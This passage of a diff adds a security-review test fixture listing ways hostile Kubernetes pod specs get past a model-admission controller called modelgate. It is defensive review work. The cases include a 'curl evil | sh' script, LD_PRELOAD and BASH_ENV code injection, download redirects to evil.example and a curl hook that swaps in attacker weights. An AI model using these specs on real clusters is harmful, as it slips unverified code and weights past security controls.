@@ -1,0 +1,1391 @@
+// A security review of the fail-closed admission (docs/policy.md "Fail closed by scope" and after,
+// docs/architecture.md ADR 8-12): hostile workloads that the documented model refuses but the code admits
+// (HOLES), and legitimate workloads it refuses (FALSE_POSITIVES). Each case records what it achieves, the
+// code that lets it through (file:line at the commit reviewed), and its class — fix the class, not the case.
+//
+// `now` is what the code does today; `want` is what the documented model says. review.test.ts asserts
+// `now`, so the suite stays green and documents each hole: after a fix, flip `now` to `want`.
+import { img, pod, type Case } from './cases.ts';
+
+type Obj = Record<string, unknown>;
+export type Outcome = 'admitted' | 'refused';
+
+export interface ReviewCase {
+  id: string;
+  class: ReviewClass;
+  name: string;
+  object: Obj;
+  request?: Case['request'];
+  now: Outcome;
+  want: Outcome;
+  /** Holes: what the attacker gets. False positives: why the workload is legitimate. */
+  achieves: string;
+  /** Where the code goes wrong (src path:line at the reviewed commit). */
+  cause: string;
+}
+
+/** Classes, highest risk first (the report's order). */
+export type ReviewClass =
+  | 'exec-identity'
+  | 'code-injection'
+  | 'verifier-impersonation'
+  | 'source-provenance'
+  | 'overlay-mounts'
+  | 'pin-scope'
+  | 'runtime-loading'
+  | 'grammar-gaps'
+  | 'env-reading'
+  | 'cache-location'
+  | 'update-relaxation'
+  | 'object-level'
+  | 'cross-pod-integrity'
+  | 'false-positive';
+
+const D = (c: string) => `sha256:${c.repeat(64)}`;
+const C = 'c'.repeat(40);
+const VLLM = img('vllm/vllm-openai');
+const LLAMA = img('ghcr.io/ggml-org/llama.cpp');
+const TRITON = img('nvcr.io/nvidia/tritonserver');
+const TGI = img('ghcr.io/huggingface/text-generation-inference');
+const SI = img('kserve/storage-initializer');
+const HFS = img('kserve/huggingfaceserver');
+const ISTIO = img('istio/proxyv2');
+const MODEL_IMG = img('registry.example.com/models/llama', 'b');
+/** The installation's verifier image in the harness (harness.ts VERIFIER_IMAGE). */
+const VERIFIER = `registry.example.com/modelgate/verifier@${D('a')}`;
+/** A digest the attacker computed over their own files (prod signs nothing, so any digest verifies). */
+const ATTACKER_DIGEST = D('e');
+const SIGNED = 'sha256:92745110b1ab4368471cbe31664e10174e954b113a3df333db860317b2c6dec4';
+
+const ro = [{ name: 'm', mountPath: '/models/m', readOnly: true }];
+const modelVol = { name: 'm', image: { reference: MODEL_IMG } };
+/** A ConfigMap the deployer writes, mounted executable: scripts, Python files, a fake binary. */
+const cfgVol = { name: 'cfg', configMap: { name: 'tools', defaultMode: 0o755 } };
+const cfgMount = { name: 'cfg', mountPath: '/cfg', readOnly: true };
+const scratch = { name: 'w', persistentVolumeClaim: { claimName: 'scratch' } };
+const annotate = (models: unknown[]) => ({ annotations: { 'modelgate.io/models': JSON.stringify(models) } });
+
+/** vLLM on the digest-pinned model image volume, plus whatever the case adds (admitted in prod alone). */
+function vllmPod(ns: string, container: Obj, extraVolumes: Obj[] = [], meta: Obj = {}): Obj {
+  return pod(
+    ns,
+    {
+      containers: [{ name: 'server', image: VLLM, volumeMounts: ro, ...container }],
+      volumes: [modelVol, ...extraVolumes],
+    },
+    meta,
+  );
+}
+const withCfg = (container: Obj): Obj => ({ volumeMounts: [...ro, cfgMount], ...container });
+
+function deploy(ns: string, spec: Obj): Obj {
+  return {
+    apiVersion: 'apps/v1',
+    kind: 'Deployment',
+    metadata: { name: 'd', namespace: ns },
+    spec: { selector: { matchLabels: { app: 'd' } }, template: { metadata: { labels: { app: 'd' } }, spec } },
+  };
+}
+const isvc = (spec: Obj): Obj => ({
+  apiVersion: 'serving.kserve.io/v1beta1',
+  kind: 'InferenceService',
+  metadata: { name: 'i', namespace: 'prod' },
+  spec,
+});
+
+/** A downloader writing the emptyDir "k" that the verifier then checks and the server reads. */
+function downloaded(initContainer: Obj): Obj {
+  return pod(
+    'prod',
+    {
+      initContainers: [{ volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }], ...initContainer }],
+      containers: [
+        {
+          name: 'kserve-container',
+          image: HFS,
+          args: ['--model_dir=/mnt/models'],
+          volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
+        },
+      ],
+      volumes: [{ name: 'k', emptyDir: {} }],
+    },
+    annotate([{ name: 'm', volume: 'k', digest: ATTACKER_DIGEST }]),
+  );
+}
+
+const hole = (
+  id: string,
+  klass: Exclude<ReviewClass, 'false-positive'>,
+  name: string,
+  object: Obj,
+  achieves: string,
+  cause: string,
+  request?: Case['request'],
+): ReviewCase => ({
+  id,
+  class: klass,
+  name,
+  object,
+  now: 'admitted',
+  want: 'refused',
+  achieves,
+  cause,
+  ...(request ? { request } : {}),
+});
+
+export const HOLES: ReviewCase[] = [
+  // ── exec-identity: what the kernel executes is not what modelgate read ─────────────────────────────
+  // A grammar is chosen by the basename of argv[0]; the file at that path (or found through PATH) can
+  // come from a volume the deployer writes, and shells and Python take options modelgate does not model.
+  hole(
+    'H01',
+    'exec-identity',
+    'the "vllm" program is a script on a ConfigMap volume',
+    vllmPod('prod', withCfg({ command: ['/cfg/vllm', 'serve', '/models/m'] }), [cfgVol]),
+    'official pinned vLLM image; /cfg/vllm is any script (curl evil | sh; exec python -m vllm... evil-org/x); modelgate reads it as vLLM serving the verified volume',
+    'src/workloads/argv.ts:98 (basename(prog) picks the grammar; the path is never checked to be inside the image rather than under a volume mount)',
+  ),
+  hole(
+    'H02',
+    'exec-identity',
+    'PATH points at a ConfigMap volume, so "vllm" resolves to the deployer\'s file',
+    vllmPod(
+      'prod',
+      withCfg({
+        command: ['vllm', 'serve', '/models/m'],
+        env: [{ name: 'PATH', value: '/cfg:/usr/bin:/bin' }],
+      }),
+      [cfgVol],
+    ),
+    'same as H01 without a path in command: the runtime looks "vllm" up in the container PATH',
+    'src/workloads/container.ts:152 (readEnv) — no variable that changes program resolution (PATH) is read',
+  ),
+  hole(
+    'H03',
+    'exec-identity',
+    'python3 runs a script on a volume named vllm',
+    vllmPod('prod', withCfg({ command: ['python3', '/cfg/vllm', 'serve', '/models/m'] }), [cfgVol]),
+    'any Python from the ConfigMap, read as vLLM',
+    'src/workloads/argv.ts:139 (python <script>: basename of the script file names the program)',
+  ),
+  hole(
+    'H04',
+    'exec-identity',
+    'env -C /cfg ./vllm (relative program after a chdir)',
+    vllmPod('prod', withCfg({ command: ['env', '-C', '/cfg', './vllm', 'serve', '/models/m'] }), [cfgVol]),
+    'runs /cfg/vllm from the ConfigMap',
+    'src/workloads/argv.ts:106,98 (env -C is skipped, then basename("./vllm") is "vllm")',
+  ),
+  hole(
+    'H05',
+    'exec-identity',
+    'sh <script file> -c "<benign line>": sh runs the file, modelgate reads the -c line',
+    vllmPod('prod', withCfg({ command: ['sh', '/cfg/start.sh', '-c', 'vllm serve /models/m'] }), [cfgVol]),
+    'sh executes /cfg/start.sh (anything); "-c" and the line are only its $1 $2',
+    "src/workloads/argv.ts:118-120 (finds -c anywhere in the shell's arguments instead of requiring it before the first operand)",
+  ),
+  hole(
+    'H06',
+    'exec-identity',
+    'sh -C (noclobber, uppercase) is taken for -c',
+    vllmPod('prod', { command: ['sh', '-C', 'vllm serve /models/m'] }),
+    'sh runs the file literally named "vllm serve /models/m" (in an image the deployer built, or under a mounted workingDir)',
+    'src/workloads/argv.ts:118 (the option-cluster regex is case-insensitive: /^-[a-z]*c[a-z]*$/i)',
+  ),
+  hole(
+    'H07',
+    'exec-identity',
+    'bash --rcfile <file> -i -c "<benign line>"',
+    vllmPod(
+      'prod',
+      withCfg({ command: ['bash', '--rcfile', '/cfg/rc', '-i', '-c', 'vllm serve /models/m'] }),
+      [cfgVol],
+    ),
+    'an interactive bash sources /cfg/rc before the line: any code',
+    'src/workloads/argv.ts:118-121 (shell options that run files — --rcfile/--init-file with -i, BASH_ENV — are not modelled)',
+  ),
+  hole(
+    'H08',
+    'exec-identity',
+    'python3 -W -m vllm...: -W takes "-m" as its value, python runs a file',
+    vllmPod(
+      'prod',
+      withCfg({
+        workingDir: '/cfg',
+        command: ['python3', '-W', '-m', 'vllm.entrypoints.openai.api_server', '--model', '/models/m'],
+      }),
+      [cfgVol],
+    ),
+    'python executes the file ./vllm.entrypoints.openai.api_server from the ConfigMap working directory',
+    'src/workloads/argv.ts:126 (-W and -X take an argument; they are skipped as if they were flags without one)',
+  ),
+  hole(
+    'H09',
+    'exec-identity',
+    'python -m with the working directory on a volume shadows the vllm package',
+    vllmPod(
+      'prod',
+      withCfg({
+        workingDir: '/cfg',
+        command: ['python3', '-m', 'vllm.entrypoints.openai.api_server', '--model', '/models/m'],
+      }),
+      [cfgVol],
+    ),
+    'python -m puts the working directory first on sys.path: /cfg/vllm/... (ConfigMap items with paths) replaces the server',
+    'src/workloads/container.ts:277-281 (a recognised module is trusted whatever workingDir points at)',
+  ),
+
+  // ── code-injection: environment that makes a recognised server run other code ─────────────────────
+  hole(
+    'H10',
+    'code-injection',
+    'BASH_ENV sources a file before the one simple command',
+    vllmPod(
+      'prod',
+      withCfg({
+        command: ['bash', '-c', 'vllm serve /models/m'],
+        env: [{ name: 'BASH_ENV', value: '/cfg/evil.sh' }],
+      }),
+      [cfgVol],
+    ),
+    'non-interactive bash runs $BASH_ENV first: any code, then (or instead of) vLLM',
+    "src/workloads/container.ts:330 (only the grammar's own variables and DOWNLOAD_ENV are read; code-loading variables are not)",
+  ),
+  hole(
+    'H11',
+    'code-injection',
+    'PYTHONPATH with a sitecustomize.py on a ConfigMap',
+    vllmPod(
+      'prod',
+      withCfg({ args: ['--model', '/models/m'], env: [{ name: 'PYTHONPATH', value: '/cfg' }] }),
+      [cfgVol],
+    ),
+    'Python imports /cfg/sitecustomize.py at start-up inside vLLM: it can load any weights',
+    'src/workloads/container.ts:330 (PYTHONPATH, PYTHONSTARTUP, PYTHONHOME, PYTHONUSERBASE unread)',
+  ),
+  hole(
+    'H12',
+    'code-injection',
+    'LD_PRELOAD a shared object from a volume',
+    vllmPod(
+      'prod',
+      withCfg({ args: ['--model', '/models/m'], env: [{ name: 'LD_PRELOAD', value: '/cfg/evil.so' }] }),
+      [cfgVol],
+    ),
+    'native code in the server process (ConfigMap binaryData)',
+    'src/workloads/container.ts:330 (LD_PRELOAD, LD_LIBRARY_PATH unread)',
+  ),
+  hole(
+    'H13',
+    'code-injection',
+    'vLLM --tool-parser-plugin imports a Python file from a volume',
+    vllmPod(
+      'prod',
+      withCfg({ command: ['vllm', 'serve', '/models/m', '--tool-parser-plugin', '/cfg/evil.py'] }),
+      [cfgVol],
+    ),
+    'vLLM imports /cfg/evil.py at start-up',
+    "src/workloads/command-line.ts:193-204 (an unknown flag not matching MODEL_ISH is ignored once the positional model is settled); src/workloads/servers.ts:128-190 lacks vLLM's code-loading flags (--tool-parser-plugin, --reasoning-parser-plugin, --middleware, --logits-processors, --worker-cls, --worker-extension-cls, --scheduler-cls, --io-processor-plugin)",
+  ),
+  hole(
+    'H14',
+    'code-injection',
+    'vLLM --middleware imports a module from PYTHONPATH',
+    vllmPod(
+      'prod',
+      withCfg({
+        command: ['vllm', 'serve', '/models/m', '--middleware', 'evil.Middleware'],
+        env: [{ name: 'PYTHONPATH', value: '/cfg' }],
+      }),
+      [cfgVol],
+    ),
+    'arbitrary Python in the API server process',
+    'as H13 and H11',
+  ),
+
+  // ── verifier-impersonation ─────────────────────────────────────────────────────────────────────────
+  hole(
+    'H15',
+    'verifier-impersonation',
+    'a hand-written "modelgate-verifier" init container with PATH on a ConfigMap poisons the HF cache',
+    pod('prod', {
+      initContainers: [
+        {
+          name: 'modelgate-verifier',
+          image: VERIFIER,
+          command: ['modelgate'],
+          args: ['verify'],
+          env: [{ name: 'PATH', value: '/cfg' }],
+          volumeMounts: [cfgMount, { name: 'cache', mountPath: '/cache' }],
+        },
+      ],
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          env: [{ name: 'HF_HOME', value: '/cache' }],
+          volumeMounts: [{ name: 'cache', mountPath: '/cache', readOnly: true }],
+        },
+      ],
+      volumes: [cfgVol, { name: 'cache', emptyDir: {} }],
+    }),
+    '/cfg/modelgate (any script) runs as an accounted init container and writes models--example-org--llama/snapshots/<commit>/ into the emptyDir cache; vLLM finds the pinned commit in its cache and loads those bytes',
+    'src/policy/checks/containers.ts:14-29 (name + image + command words are enough; env, volumes, workingDir unchecked) and src/mutation/verifier-check.ts:34 (no comparison at all when the pod has no volume-delivered model); src/workloads/pod.ts:71 (an emptyDir cache is trusted as pod-local although an init container can fill it)',
+  ),
+  hole(
+    'H16',
+    'verifier-impersonation',
+    'the same fake verifier in a Deployment template, NODE_OPTIONS=--require',
+    deploy('prod', {
+      initContainers: [
+        {
+          name: 'modelgate-verifier',
+          image: VERIFIER,
+          command: ['modelgate'],
+          args: ['verify'],
+          env: [{ name: 'NODE_OPTIONS', value: '--require /cfg/x.js' }],
+          volumeMounts: [cfgMount],
+        },
+      ],
+      containers: [
+        { name: 'server', image: VLLM, command: ['vllm', 'serve', 'example-org/llama', '--revision', C] },
+      ],
+      volumes: [cfgVol],
+    }),
+    'arbitrary JavaScript in the verifier image (the mutating webhook keeps it: the pod needs no verifier)',
+    'as H15; for kinds other than Pod the verifier check never runs (src/mutation/verifier-check.ts:33)',
+  ),
+
+  // ── source-provenance: the policy's sources are satisfied by claims, not by where bytes come from ──
+  hole(
+    'H17',
+    'source-provenance',
+    'storage initializer with AWS_ENDPOINT_URL, made "bound" by a digest the attacker declares',
+    downloaded({
+      name: 'storage-initializer',
+      image: SI,
+      args: ['s3://models-prod/llama', '/mnt/models'],
+      env: [{ name: 'AWS_ENDPOINT_URL', value: 'https://evil.example' }],
+    }),
+    "bytes from evil.example pass as s3://models-prod/llama: prod signs nothing, so the verifier only proves the bytes match the attacker's own digest",
+    'src/workloads/container.ts:487 (redirects are "unbound" relevance) + src/policy/checks/containers.ts:80 (dropped when the verifier binds the volume); binding to a declared digest is not provenance unless a signature or allowedDigests backs the digest',
+  ),
+  hole(
+    'H18',
+    'source-provenance',
+    'huggingface-cli download with HF_ENDPOINT, digest declared by the attacker',
+    downloaded({
+      name: 'dl',
+      image: img('registry.example.com/ml/hf-cli'),
+      command: [
+        'huggingface-cli',
+        'download',
+        'example-org/llama',
+        '--revision',
+        C,
+        '--local-dir',
+        '/mnt/models',
+      ],
+      env: [{ name: 'HF_ENDPOINT', value: 'https://evil.example' }],
+    }),
+    'evil weights pass as hf://example-org/llama@<commit>',
+    'as H17',
+  ),
+  hole(
+    'H19',
+    'source-provenance',
+    'aws s3 cp --endpoint-url (a flag, not even a variable)',
+    downloaded({
+      name: 'dl',
+      image: img('amazon/aws-cli'),
+      command: [
+        'aws',
+        's3',
+        'cp',
+        '--endpoint-url',
+        'https://evil.example',
+        '--recursive',
+        's3://models-prod/llama',
+        '/mnt/models',
+      ],
+    }),
+    'bytes from evil.example pass as s3://models-prod/llama (the CLI flag is never read as a redirect)',
+    'src/workloads/servers.ts:552 (--endpoint-url is a plain value for object-store copies; gsutil -o/BOTO_CONFIG, AWS_CONFIG_FILE likewise unread)',
+  ),
+  ...(
+    [
+      ['H20', 'nfs', { server: 'nfs.evil.example', path: '/weights' }],
+      ['H21', 'csi', { driver: 'blob.csi.azure.com', volumeAttributes: { containerName: 'evil' } }],
+      ['H22', 'configMap', { name: 'weights' }],
+      ['H23', 'gitRepo', { repository: 'https://evil.example/weights.git' }],
+    ] as const
+  ).map(([id, type, spec]) =>
+    hole(
+      id,
+      'source-provenance',
+      `the annotation's uri is believed for a ${type} volume`,
+      pod(
+        'prod',
+        {
+          containers: [
+            {
+              name: 'server',
+              image: VLLM,
+              args: ['--model', '/models/m'],
+              volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
+            },
+          ],
+          volumes: [{ name: 'w', [type]: spec }],
+        },
+        annotate([{ name: 'm', volume: 'w', uri: 's3://models-prod/llama', digest: ATTACKER_DIGEST }]),
+      ),
+      `a ${type} volume of the attacker's bytes passes "sources" as s3://models-prod/llama`,
+      'src/workloads/extract.ts:111,441 (only emptyDir, hostPath, PVC and ephemeral are "unbound"; every other type — nfs, csi, iscsi, cephfs, configMap, secret, projected, gitRepo, ... — keeps the claimed uri)',
+    ),
+  ),
+  hole(
+    'H24',
+    'source-provenance',
+    'a PVC the deployer named models-evil matches pvc://models-*',
+    pod(
+      'prod',
+      {
+        containers: [
+          {
+            name: 'server',
+            image: VLLM,
+            args: ['--model', '/models/m'],
+            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
+          },
+        ],
+        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-evil', readOnly: true } }],
+      },
+      annotate([{ name: 'm', volume: 'w', digest: ATTACKER_DIGEST }]),
+    ),
+    'namespace editors create PVCs: a claim name is not a provenance; with no signature any content passes',
+    'src/workloads/extract.ts:437-440 (pvc://<claim> is a deployer-chosen string); docs/policy.md recommends pvc://model-cache-* without saying so',
+  ),
+  hole(
+    'H25',
+    'source-provenance',
+    'a 40-hex commit of an allowed HF repo is "pinned", whoever authored it',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', 'd'.repeat(40)],
+        },
+      ],
+    }),
+    'anyone can open a pull request on a public HF repo; its commit (refs/pr/N) is fetchable by sha from example-org/llama',
+    'src/workloads/uri.ts:91 (any 40-hex revision pins); hf:// sources say nothing about which branch a commit is on — needs allowedDigests/signatures or a documented warning',
+  ),
+
+  // ── overlay-mounts: the bytes at a model path come from a mount modelgate did not attribute ────────
+  hole(
+    'H26',
+    'overlay-mounts',
+    'a PVC file mounted inside the verified model directory',
+    vllmPod(
+      'prod',
+      {
+        args: ['--model', '/models/m'],
+        volumeMounts: [
+          ...ro,
+          {
+            name: 'w',
+            mountPath: '/models/m/model.safetensors',
+            subPath: 'evil.safetensors',
+            readOnly: true,
+          },
+        ],
+      },
+      [scratch],
+    ),
+    "the weights file the server reads is the PVC's; the image volume (and the verifier) see the original",
+    'src/workloads/pod.ts:153-170 (mountFor finds the mount holding the path; mounts beneath a model path are never attributed to it)',
+  ),
+  hole(
+    'H27',
+    'overlay-mounts',
+    'Triton repository on a verified volume, one of its model directories replaced by a PVC',
+    pod('prod', {
+      containers: [
+        {
+          name: 'triton',
+          image: TRITON,
+          command: ['tritonserver', '--model-repository=/models/m'],
+          volumeMounts: [...ro, { name: 'w', mountPath: '/models/m/llama', readOnly: true }],
+        },
+      ],
+      volumes: [modelVol, scratch],
+    }),
+    'Triton loads every model directory of the repository: /models/m/llama (a directory that exists in the image, so the read-only volume needs no new mount point) is the PVC',
+    'as H26',
+  ),
+  hole(
+    'H28',
+    'overlay-mounts',
+    'TF Serving: MODEL_NAME picks a directory under MODEL_BASE_PATH (traversal out of it)',
+    pod('prod', {
+      containers: [
+        {
+          name: 'tfs',
+          image: img('tensorflow/serving'),
+          env: [
+            { name: 'MODEL_BASE_PATH', value: '/models/m' },
+            { name: 'MODEL_NAME', value: '../../w' },
+          ],
+          volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
+        },
+      ],
+      volumes: [modelVol, scratch],
+    }),
+    'the image entrypoint runs --model_base_path=${MODEL_BASE_PATH}/${MODEL_NAME} = /w (the PVC)',
+    'src/workloads/servers.ts:459 (MODEL_BASE_PATH read as the whole path; MODEL_NAME ignored)',
+  ),
+  hole(
+    'H29',
+    'overlay-mounts',
+    'two mounts at one normalised path: modelgate keeps the first, the runtime mounts the last on top',
+    vllmPod(
+      'prod',
+      {
+        args: ['--model', '/models/m'],
+        volumeMounts: [...ro, { name: 'w', mountPath: '/models/m/', readOnly: true }],
+      },
+      [scratch],
+    ),
+    'the API server accepts /models/m and /models/m/ as distinct; the container sees the PVC',
+    'src/workloads/pod.ts:160-163 (ties on normalised length keep the first mount; duplicates are not refused)',
+  ),
+  hole(
+    'H30',
+    'overlay-mounts',
+    'a mountPath with ".." disappears from modelgate\'s view (tee: pinned-only policy)',
+    pod('tee', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          args: ['--model', '/models/m'],
+          volumeMounts: [{ name: 'w', mountPath: '/models/x/../m', readOnly: true }],
+        },
+      ],
+      volumes: [scratch],
+    }),
+    'the model is taken for a file of the pinned server image; the runtime resolves the mount to /models/m (PVC)',
+    'src/workloads/pod.ts:124-125 (an un-normalisable mountPath is skipped instead of refused)',
+  ),
+  hole(
+    'H31',
+    'overlay-mounts',
+    'a workingDir with ".." falls back to the image default, hiding a hub-id shadow on a PVC',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          workingDir: '/data/x/..',
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C],
+          volumeMounts: [{ name: 'd', mountPath: '/data', readOnly: true }],
+        },
+      ],
+      volumes: [{ name: 'd', persistentVolumeClaim: { claimName: 'scratch' } }],
+    }),
+    'the real cwd is /data: from_pretrained loads /data/example-org/llama from the PVC',
+    'src/workloads/container.ts:403 (normalisePath(workingDir) ?? image default)',
+  ),
+  hole(
+    'H32',
+    'overlay-mounts',
+    'Triton repository in the image with a PVC mounted as one of its directories (tee)',
+    pod('tee', {
+      containers: [
+        {
+          name: 'triton',
+          image: TRITON,
+          command: ['tritonserver', '--model-repository=/models'],
+          volumeMounts: [{ name: 'w', mountPath: '/models/evil', readOnly: true }],
+        },
+      ],
+      volumes: [scratch],
+    }),
+    'the repository counts as "in the pinned image"; the PVC model inside it is never seen',
+    'as H26 (src/workloads/container.ts:720-731)',
+  ),
+
+  // ── pin-scope: one pin is applied to references it does not pin ─────────────────────────────────────
+  hole(
+    'H33',
+    'pin-scope',
+    '--revision is applied to --tokenizer',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: ['vllm', 'serve', 'example-org/llama', '--revision', C, '--tokenizer', 'example-org/tok'],
+        },
+      ],
+    }),
+    'vLLM fetches the tokenizer from main (--tokenizer-revision is separate); with --trust-remote-code that is code',
+    "src/workloads/container.ts:428,641 (every hub candidate gets the main model's revisions)",
+  ),
+  hole(
+    'H34',
+    'pin-scope',
+    '--revision is applied to a LoRA adapter',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: [
+            'vllm',
+            'serve',
+            'example-org/llama',
+            '--revision',
+            C,
+            '--enable-lora',
+            '--lora-modules',
+            'a=example-org/adapter',
+          ],
+        },
+      ],
+    }),
+    'the adapter comes from main, unpinned',
+    'as H33',
+  ),
+  hole(
+    'H35',
+    'pin-scope',
+    '--revision is applied to the speculative draft model',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: VLLM,
+          command: [
+            'vllm',
+            'serve',
+            'example-org/llama',
+            '--revision',
+            C,
+            '--speculative-config',
+            '{"model": "example-org/draft", "num_speculative_tokens": 5}',
+          ],
+        },
+      ],
+    }),
+    'the draft model comes from main (its revision is speculative-config "revision")',
+    'as H33',
+  ),
+  hole(
+    'H36',
+    'pin-scope',
+    'llama.cpp -hf <hub repo> is taken for a file inside the pinned image (tee)',
+    pod('tee', {
+      containers: [{ name: 'llama', image: LLAMA, args: ['-hf', 'evil-org/model-GGUF:Q4_K_M'] }],
+    }),
+    "llama.cpp downloads the repo's current GGUF from the hub; modelgate counts it as pinned by the server image digest",
+    'src/workloads/container.ts:671-674 (a relative value of a grammar without hub ids is a path in the image); -hf/-hfd/-hfv values are hub repos',
+  ),
+
+  hole(
+    'H60',
+    'pin-scope',
+    'TGI: REVISION is applied to --lora-adapters',
+    pod('prod', {
+      containers: [
+        {
+          name: 'tgi',
+          image: TGI,
+          args: [
+            '--model-id',
+            'example-org/llama',
+            '--revision',
+            C,
+            '--lora-adapters',
+            'example-org/adapter',
+          ],
+        },
+      ],
+    }),
+    "TGI downloads the adapter from its main branch; modelgate counts it as pinned by the base model's revision",
+    'as H33 (src/workloads/container.ts:428,641)',
+  ),
+
+  // ── runtime-loading: the server swaps weights after start ──────────────────────────────────────────
+  hole(
+    'H37',
+    'runtime-loading',
+    'SGLang: POST /update_weights_from_disk is on by default',
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: img('lmsysorg/sglang'),
+          command: ['python3', '-m', 'sglang.launch_server', '--model-path', '/models/m'],
+          volumeMounts: ro,
+        },
+      ],
+      volumes: [modelVol],
+    }),
+    'anyone who reaches the port replaces the weights with {"model_path": "evil-org/x"} (also /update_weights_from_distributed, /load_lora_adapter)',
+    'src/workloads/servers.ts:317-352 (SGLang has no loadsAtRunTime, unlike Ollama)',
+  ),
+  hole(
+    'H38',
+    'runtime-loading',
+    "a postStart hook calls SGLang's weight-swap API with curl --json",
+    pod('prod', {
+      containers: [
+        {
+          name: 'server',
+          image: img('lmsysorg/sglang'),
+          command: ['python3', '-m', 'sglang.launch_server', '--model-path', '/models/m'],
+          volumeMounts: ro,
+          lifecycle: {
+            postStart: {
+              exec: {
+                command: [
+                  'curl',
+                  '--json',
+                  '{"model_path":"evil-org/x"}',
+                  'http://localhost:30000/update_weights_from_disk',
+                ],
+              },
+            },
+          },
+        },
+      ],
+      volumes: [modelVol],
+    }),
+    'the pod loads evil-org/x right after start',
+    'src/workloads/container.ts:88 (LOAD_API misses update_weights) and :752-759 (curl --json, -XPOST, -d@file, --data-binary=..., --request=POST not recognised as a POST)',
+  ),
+  hole(
+    'H39',
+    'runtime-loading',
+    'curl -XPOST to a percent-encoded load_lora_adapter path',
+    vllmPod('prod', {
+      command: ['vllm', 'serve', '/models/m'],
+      readinessProbe: {
+        exec: {
+          command: [
+            'curl',
+            '-XPOST',
+            '-d{"lora_name":"a","lora_path":"evil-org/a"}',
+            'http://localhost:8000/v1/%6Coad_lora_%61dapter',
+          ],
+        },
+      },
+    }),
+    'the server decodes the path and loads the adapter (with runtime LoRA enabled, e.g. H42)',
+    'as H38: the probe is judged by substrings of its arguments',
+  ),
+  hole(
+    'H40',
+    'runtime-loading',
+    'VLLM_SERVER_DEV_MODE exposes /collective_rpc, /sleep, /wake_up',
+    vllmPod('prod', {
+      command: ['vllm', 'serve', '/models/m'],
+      env: [{ name: 'VLLM_SERVER_DEV_MODE', value: '1' }],
+    }),
+    'development endpoints that call into the workers (weight reload paths used for RLHF)',
+    'src/workloads/servers.ts:191 (only VLLM_ALLOW_RUNTIME_LORA_UPDATING is a runtime-load variable)',
+  ),
+
+  // ── grammar-gaps: the command line is read differently from the server ─────────────────────────────
+  hole(
+    'H41',
+    'grammar-gaps',
+    'vLLM --disable-log-requests (a boolean) is read as taking a value, hiding the positional model',
+    vllmPod('prod', {
+      command: ['vllm', 'serve', '--disable-log-requests', 'evil-org/x', '--model', '/models/m'],
+    }),
+    'vLLM serves evil-org/x (the positional model wins over --model); modelgate reads only /models/m',
+    'src/workloads/servers.ts:178 (listed under value:, arity one)',
+  ),
+  hole(
+    'H42',
+    'grammar-gaps',
+    'env VAR=value launcher assignments are skipped, not read as environment',
+    vllmPod('prod', {
+      command: [
+        'env',
+        'VLLM_ALLOW_RUNTIME_LORA_UPDATING=true',
+        'vllm',
+        'serve',
+        '/models/m',
+        '--enable-lora',
+      ],
+    }),
+    'runtime LoRA loading (the same variable in env: is refused); HF_ENDPOINT=... the same way',
+    'src/workloads/argv.ts:102 (assignments are dropped instead of merged into the container env)',
+  ),
+  hole(
+    'H43',
+    'grammar-gaps',
+    'llama.cpp -mm (short --mmproj) from a PVC',
+    vllmPod(
+      'prod',
+      {
+        name: 'llama',
+        image: LLAMA,
+        args: ['-m', '/models/m/model.gguf', '-mm', '/w/evil-mmproj.gguf'],
+        volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
+      },
+      [scratch],
+    ),
+    'an unverified multimodal projector (weights) is loaded',
+    'src/workloads/servers.ts:248-315 (missing -mm, -mmu, -dr/--docker-repo, -hffv/--hf-file-v, --control-vector-scaled; unknown short flags are silently ignored)',
+  ),
+  hole(
+    'H44',
+    'grammar-gaps',
+    'llama.cpp -mmu downloads a projector from a URL',
+    vllmPod('prod', {
+      name: 'llama',
+      image: LLAMA,
+      args: ['-m', '/models/m/model.gguf', '-mmu', 'https://evil.example/mmproj.gguf'],
+    }),
+    'unpinned, unverified weights from any URL',
+    'as H43',
+  ),
+  hole(
+    'H45',
+    'grammar-gaps',
+    'llama.cpp -dr pulls a model from Docker Hub',
+    vllmPod('prod', {
+      name: 'llama',
+      image: LLAMA,
+      args: ['-m', '/models/m/model.gguf', '-dr', 'evil/model'],
+    }),
+    'an unpinned model from any Docker Hub repository',
+    'as H43',
+  ),
+  hole(
+    'H46',
+    'grammar-gaps',
+    'llama.cpp --control-vector-scaled from a PVC',
+    vllmPod(
+      'prod',
+      {
+        name: 'llama',
+        image: LLAMA,
+        args: ['-m', '/models/m/model.gguf', '--control-vector-scaled', '/w/cv.gguf', '0.8'],
+        volumeMounts: [...ro, { name: 'w', mountPath: '/w', readOnly: true }],
+      },
+      [scratch],
+    ),
+    'an unverified control vector steers the model',
+    'as H43 (MODEL_ISH has no "control"/"vector")',
+  ),
+
+  // ── env-reading: values the kubelet computes differently ──────────────────────────────────────────
+  hole(
+    'H47',
+    'env-reading',
+    '$(X) of a ConfigMap variable is kept as the literal text "$(X)"',
+    vllmPod('prod', {
+      command: ['vllm', 'serve', '/models/m', '--enable-lora'],
+      env: [
+        { name: 'X', valueFrom: { configMapKeyRef: { name: 'c', key: 'k' } } },
+        { name: 'VLLM_ALLOW_RUNTIME_LORA_UPDATING', value: '$(X)' },
+      ],
+    }),
+    'the kubelet substitutes "true": runtime LoRA loading',
+    "src/workloads/env.ts:83 (the expansion's unknown names are discarded; the variable becomes a literal)",
+  ),
+  hole(
+    'H48',
+    'env-reading',
+    '$(X) defined by envFrom is kept as the literal text "$(X)"',
+    vllmPod('prod', {
